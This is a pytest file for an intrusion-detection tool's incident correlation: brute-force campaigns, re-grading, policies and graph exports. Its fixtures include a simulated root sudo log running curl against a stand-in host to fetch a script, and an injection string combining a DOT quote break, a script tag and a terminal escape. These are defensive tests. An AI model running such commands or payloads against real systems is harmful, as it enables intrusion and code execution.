"""Alerts become few, graded, readable incidents: joining, campaigns, re-grading, exports."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from hostwarden.core.errors import HostwardenError
from hostwarden.core.records import Alert, Grade
from hostwarden.incidents.attack import KILL_CHAIN, load_catalog, tactic_rank
from hostwarden.incidents.correlate import IncidentBook
from hostwarden.incidents.graph import timeline, to_dot, to_json, to_svg
from hostwarden.incidents.model import Incident
from hostwarden.incidents.policy import BUILTIN_POLICY, load_policy

T0 = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
BF = "6b1f4f6e-1d0e-4c53-9a57-0f3d7c0a1003"
LOGIN_AFTER_BF = "6b1f4f6e-1d0e-4c53-9a57-0f3d7c0a1008"
ROOT_LOGIN = "6b1f4f6e-1d0e-4c53-9a57-0f3d7c0a1009"
NOW = datetime(2026, 12, 1, tzinfo=UTC)


def alert(n: int, rule: str, name: str, grade: Grade, at: float, ip: str | None = None, user: str | None = None,
          techniques: tuple[str, ...] = (), tactics: tuple[str, ...] = (), **detail: object) -> Alert:
    return Alert(id=f"a{n}", rule_id=rule, rule_name=name, message=name, grade=grade, time=T0 + timedelta(seconds=at),
                 detail={"count": 1, **detail}, host_name="web-01", source_ip=ip, user_name=user,
                 techniques=techniques, tactics=tactics)


def brute(n: int, ip: str, at: float) -> Alert:
    return alert(n, BF, "SSH brute force (fast)", Grade.L2, at, ip, techniques=("T1110.001",),
                 tactics=("credential_access",), count=12)


def book() -> IncidentBook:
    return IncidentBook(load_policy(), clock=lambda: NOW)


def test_login_after_brute_force_and_what_the_session_did_is_one_l1_incident_in_order() -> None:
    b = book()
    follow = [{"id": "e-sudo", "time": "2026-11-01 09:05:00+00:00", "action": "sudo_command",
               "excerpt": "sudo: root : COMMAND=/usr/bin/curl -s http://203.0.113.9/x.sh"},
              {"id": "e-cron", "time": "2026-11-01 09:06:00+00:00", "action": "crontab_replaced",
               "excerpt": "crontab[5275]: (root) REPLACE (root)"}]
    b.add([brute(1, "198.51.100.23", 0)] + [brute(100 + i, f"203.0.113.{i}", i) for i in range(3)])
    changed = b.add([alert(2, LOGIN_AFTER_BF, "SSH login success after brute force", Grade.L1, 120, "198.51.100.23",
                           "root", techniques=("T1110", "T1078"), tactics=("credential_access", "initial_access"),
                           follow_up=follow)])
    intrusion = [i for i in changed if i.kind == "intrusion"]
    assert len(intrusion) == 1
    inc = intrusion[0]
    assert inc.grade is Grade.L1 and inc.priority == "P0"
    assert inc.grading_rule == "compromise-after-brute-force" and LOGIN_AFTER_BF in inc.reason
    assert inc.deadline == NOW + timedelta(minutes=15)
    steps = [(s["kind"], s["what"]) for s in timeline(inc)]
    assert steps == [("alert", "SSH brute force (fast)"), ("alert", "SSH login success after brute force"),
                     ("activity", "sudo_command"), ("activity", "crontab_replaced")]
    # the other sources' brute force stays in the campaign, which also keeps the attacker's
    campaign = [i for i in b.incidents.values() if i.kind == "campaign"]
    assert len(campaign) == 1 and len(campaign[0].sources) == 4


def test_two_hundred_background_scanners_fold_into_one_campaign() -> None:
    b = book()
    b.add([brute(i, f"203.0.{i // 250}.{i % 250}", i * 3) for i in range(200)])
    assert len(b.incidents) == 1
    (inc,) = b.incidents.values()
    assert inc.kind == "campaign" and inc.alert_count == 200 and len(inc.sources) == 200
    assert inc.grade is Grade.L2 and inc.priority == "P2"
    assert "200 alerts from 200 sources" in inc.reason and "200 sources" in inc.title()


def test_an_l2_incident_is_regraded_l1_when_a_success_joins() -> None:
    b = book()
    (first,) = b.add([alert(1, ROOT_LOGIN, "Root login over SSH", Grade.L2, 0, "192.0.2.66", "root",
                            tactics=("initial_access",))])
    assert first.grade is Grade.L2 and first.priority == "P2"
    deadline = first.deadline
    later = IncidentBook(load_policy(), clock=lambda: NOW + timedelta(minutes=5))
    later.incidents, later._by_entity, later._home = b.incidents, b._by_entity, b._home  # noqa: SLF001
    (again,) = later.add([alert(2, LOGIN_AFTER_BF, "SSH login success after brute force", Grade.L1, 30,
                                "192.0.2.66", "root")])
    assert again.id == first.id and again.grade is Grade.L1 and again.priority == "P0"
    assert again.regraded and again.regraded[-1]["from"] == "L2" and again.regraded[-1]["to"] == "L1"
    assert again.deadline == NOW + timedelta(minutes=20) and again.deadline < deadline


def test_an_alert_already_in_an_open_incident_updates_it() -> None:
    b = book()
    b.add([brute(1, "198.51.100.1", 0)])
    grown = brute(1, "198.51.100.1", 0)
    b.add([Alert(**{**grown.__dict__, "detail": {"count": 40, "last": (T0 + timedelta(minutes=3)).isoformat()}})])
    (inc,) = b.incidents.values()
    assert inc.alert_count == 1 and inc.alerts[0].count == 40 and inc.sources["198.51.100.1"] == 40


def test_unrelated_alerts_on_one_host_stay_apart_and_a_shared_event_joins() -> None:
    b = book()
    b.add([alert(1, "r1", "Reverse shell started", Grade.L1, 0, events=[{"id": "ev1"}]),
           alert(2, "r2", "Cryptocurrency miner started", Grade.L2, 10, events=[{"id": "ev2"}])])
    assert len(b.incidents) == 2  # same host only: not one story
    b.add([alert(3, "r3", "New account with UID 0", Grade.L1, 20, events=[{"id": "ev1"}])])
    assert len(b.incidents) == 2 and sorted(i.alert_count for i in b.incidents.values()) == [1, 2]


def test_grading_is_data(tmp_path: Path) -> None:
    text = BUILTIN_POLICY.read_text().replace("max_grade: L2\n", "max_grade: L3\n", 1)  # SSH campaign: L3 only
    custom = tmp_path / "policy.yml"
    custom.write_text(text)
    b = IncidentBook(load_policy(custom), clock=lambda: NOW)
    b.add([brute(1, "198.51.100.1", 0), brute(2, "198.51.100.2", 1)])
    assert [i.kind for i in b.incidents.values()] == ["intrusion", "intrusion"]  # L2 no longer folds


@pytest.mark.parametrize("bad", ["window: soon\n", "grading: []\nservice_levels: {P9: 1h}\n", "campaigns: [{nme: x}]\n"])
def test_a_bad_policy_is_refused_with_a_code(tmp_path: Path, bad: str) -> None:
    path = tmp_path / "p.yml"
    path.write_text(bad)
    with pytest.raises(HostwardenError) as err:
        load_policy(path)
    assert err.value.code.code == "CSA-5003"


def test_tactics_are_in_kill_chain_order_with_attack_names() -> None:
    assert sorted(["impact", "initial_access", "Credential Access", "execution"], key=tactic_rank) == \
        ["initial_access", "execution", "Credential Access", "impact"]
    catalog = load_catalog()
    assert catalog.name("T1110") == "Brute Force" and catalog.name("T1110.001") == "Password Guessing"
    assert "credential-access" in catalog.tactics_of("T1110")
    assert len(KILL_CHAIN) == 14


HOSTILE = 'x"]; evil [label="pwn" <script>alert(1)</script> &amp; \x1b]0;title\x07'


def test_exports_are_inert_against_hostile_names() -> None:
    b = book()
    (inc,) = b.add([alert(1, LOGIN_AFTER_BF, HOSTILE, Grade.L1, 0, "192.0.2.66", HOSTILE,
                          follow_up=[{"id": "e1", "time": "2026-11-01 09:01:00+00:00", "action": "sudo_command",
                                      "excerpt": HOSTILE}])])
    svg = to_svg(inc)
    root = ET.fromstring(svg)  # well-formed XML: no markup got through
    assert root.tag.endswith("svg") and not list(root.iter("{http://www.w3.org/2000/svg}script"))
    assert "<script" not in svg and "\x1b" not in svg.replace("\\x1b", "")
    dot = to_dot(inc)
    quoted = r'"(?:[^"\\\n]|\\.)*"'  # one DOT string: the injected quote stays inside it
    node = re.compile(rf"^  n\d+ \[label={quoted}, shape=\w+\];$")
    edge = re.compile(rf"^  n\d+ -> n\d+ \[label={quoted}\];$")
    lines = dot.splitlines()
    assert re.fullmatch(rf"  label={quoted};", lines[2])
    assert all(node.match(line) or edge.match(line) for line in lines[3:-1]), dot
    assert "\x1b" not in dot
    doc = json.loads(to_json(inc))
    assert doc["incident"]["message"].startswith("x")  # JSON keeps data exact
    assert {n["kind"] for n in doc["graph"]["nodes"]} >= {"ip", "user", "host", "process"}


def test_incident_row_round_trip() -> None:
    b = book()
    b.add([brute(i, f"203.0.113.{i}", i) for i in range(5)])
    (inc,) = b.incidents.values()
    back = Incident.from_ecs(inc.to_ecs())
    assert (back.id, back.kind, back.grade, back.priority, back.alert_count, dict(back.sources)) == \
        (inc.id, inc.kind, inc.grade, inc.priority, inc.alert_count, dict(inc.sources))
    restored = book()
    restored.restore([back])
    (same,) = restored.add([brute(99, "203.0.113.200", 30)])
    assert same.id == inc.id and same.alert_count == 6  # a restarted watch goes on with the campaign
